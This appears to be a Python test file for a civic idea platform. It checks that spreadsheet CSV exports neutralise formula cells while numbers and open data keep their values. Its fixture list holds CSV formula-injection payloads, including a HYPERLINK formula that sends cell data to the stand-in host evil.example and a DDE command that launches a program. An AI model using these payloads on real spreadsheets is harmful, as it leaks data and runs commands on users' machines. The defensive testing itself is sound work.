"""CSV files meant for a spreadsheet neutralise formula cells (ideaboard/spreadsheets.py): the
evaluation's figures and the baseline's import template, downloaded through their pages, with
hostile names in them; numbers stay numbers. The open data keeps its exact values, as documented."""
import csv
import io
import uuid
from decimal import Decimal

from ideaboard.accounts.models import Role
from ideaboard.archive.services import ProposalDraft, archive_ideathon, draft_proposal
from ideaboard.ideas.services import post_idea
from ideaboard.municipalities.services import get_by_code
from ideaboard.pilots import services as pilots
from ideaboard.rooms.services import change_phase
from ideaboard.spreadsheets import read_cell, spreadsheet_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Ver")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1",
           "=cmd|' /C calc'!A0"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers():
    text = spreadsheet_csv(["Nombre", "Valor"], [[name, -5] for name in HOSTILE] + [
        ["-5", Decimal("-2.50")], ["Agua potable", 1.5], ["", None], ["'=ya neutralizada", 0]])
    read = rows(text)
    assert read[0] == ["Nombre", "Valor"]
    assert [r[0] for r in read[1:len(HOSTILE) + 1]] == ["'" + name for name in HOSTILE]
    assert {r[1] for r in read[1:len(HOSTILE) + 1]} == {"-5"}  # a negative number is a number
    assert read[-4:] == [["'-5", "-2.50"], ["Agua potable", "1.5"], ["", ""], ["'=ya neutralizada", "0"]]
    assert text.endswith("\r\n") and not text.startswith("\ufeff")
    assert spreadsheet_csv(["a"], [], bom=True).startswith("\ufeff")
    assert [read_cell("'" + name) for name in HOSTILE] == HOSTILE
    assert read_cell("'hola") == "'hola" and read_cell("-5") == "-5"


def test_the_evaluation_csv_neutralises_hostile_titles(app, client, make_user, make_programme, make_ideathon):
    coordinator = make_user(Role.COORDINATOR)
    programme = make_programme(actor=coordinator)
    for title in HOSTILE[:4]:
        make_ideathon(title=title, programme=programme, actor=coordinator)
    response = client.get(f"/programas/{programme.id}/evaluacion.csv")
    assert response.status_code == 200
    table = rows(response.data.decode("utf-8-sig"))
    header, body = table[0], table[1:]
    titles = [row[header.index("Ideatón")] for row in body]
    assert sorted(titles) == sorted("'" + title for title in HOSTILE[:4])
    planned = header.index("Presupuesto planificado (Q)")
    assert {row[planned] for row in body} == {"8100.00"}  # numbers as numbers, no apostrophe
    assert {row[header.index("Respuestas a la encuesta")] for row in body} == {"0"}


def test_the_baseline_template_neutralises_hostile_indicators_and_imports_back(app, client, auth, make_user,
                                                                             make_programme):
    coordinator = make_user(Role.COORDINATOR)
    programme = make_programme(actor=coordinator)
    pilots.propose(programme, get_by_code("2101"), "Agua", actor=coordinator)
    names = ["=1+1", "@SUM(A1)", "-5 días", "+502 llamadas"]
    for name in names:
        pilots.add_indicator(programme, name, "", "", actor=coordinator)
    auth.login(coordinator)
    response = client.get(f"/programas/{programme.id}/linea-base/plantilla.csv")
    assert response.status_code == 200
    table = rows(response.get_data(as_text=True))
    assert [row[1] for row in table[1:]] == ["'" + name for name in names]
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in table[1:])
    # Filled in as it came, the template imports into the same indicators: none is created.
    filled = response.get_data(as_text=True).replace(",,,", ",-3,,")
    result = pilots.import_baseline(programme, filled.encode(), actor=coordinator)
    assert (result.created, result.new_indicators) == (4, [])
    assert sorted(i.name for i in pilots.indicators_of(programme)) == sorted(names)


def test_open_data_keeps_exact_values(app, client, open_room, join):
    """Open data is for programs (a Data Package, identical to its JSON and the API): exact values,
    formula signs included, as README's "Open data" says."""
    room = open_room()
    author = join(app.test_client(), room)
    idea, _ = post_idea(room, author, theme_id=room.themes[0].id, text="Agua", client_id=str(uuid.uuid4()))
    change_phase(room, "closed", actor=room.created_by)
    draft_proposal(room, ProposalDraft(title="=1+1", problem="-2 días sin agua", proposal="@municipalidad",
                                       idea_ids=[idea.id]), actor=room.created_by)
    archive_ideathon(room, actor=room.created_by)
    table = rows(client.get("/datos/proposals.csv").get_data(as_text=True))
    row = dict(zip(table[0], table[1]))
    assert (row["title"], row["problem"], row["proposal"]) == ("=1+1", "-2 días sin agua", "@municipalidad")
    assert client.get("/datos/proposals.json").get_json()[0]["title"] == "=1+1"
